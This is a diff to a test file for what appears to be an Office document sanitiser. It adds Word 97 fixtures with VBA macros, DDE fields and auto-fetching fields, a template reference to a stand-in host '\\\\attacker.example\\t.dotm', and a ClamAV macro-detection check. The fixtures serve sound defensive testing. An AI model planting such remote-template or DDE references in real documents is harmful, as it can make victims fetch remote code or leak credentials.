@@ -16,6 +16,7 @@ import {
   buildImage,
   buildOdt,
   buildOfficeDocument,
+  buildWordBinary,
   withZip64End,
 } from '@disarm/fixtures';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
@@ -118,6 +119,14 @@ beforeAll(async () => {
       }),
     ],
     ['basic.odt', await buildOdt({ texts, basic: true, scripts: true, image: png })],
+    // Word 97-2003 files as LibreOffice exports them, given a VBA project and a template in code.
+    ['vba-97.doc', await buildWordBinary({ texts, vba: true })],
+    ['dde-field-97.doc', await buildWordBinary({ texts, dde: true })],
+    ['fetch-97.doc', await buildWordBinary({ texts, fetchingFields: true })],
+    [
+      'template-97.dot',
+      await buildWordBinary({ texts, dot: true, template: '\\\\attacker.example\\t.dotm' }),
+    ],
     ['settings.odt', await buildOdt({ texts, settings: true })],
     ['chart.odt', await buildOdt({ texts, chart: true })],
     ['forms.odt', await buildOdt({ texts, forms: true })],
@@ -314,6 +323,7 @@ describe('Office and ODT outputs, as independent readers see them', () => {
     }
     for (const name of BENIGN) expect(inputs[name], `input ${name}`).toBe('OK');
     expect(inputs['vba.docm']).toMatch(/^Heuristics\.OLE2\.ContainsMacros/);
+    expect(inputs['vba-97.doc']).toMatch(/^Heuristics\.OLE2\.ContainsMacros/);
     // The preview picture is kept; the record naming a profile on a share is not.
     const metafileIn = clamscanVerdicts(join(dir, 'in'), join(dir, 'metafile.ndb'));
     const metafileOut = clamscanVerdicts(join(dir, 'out'), join(dir, 'metafile.ndb'));
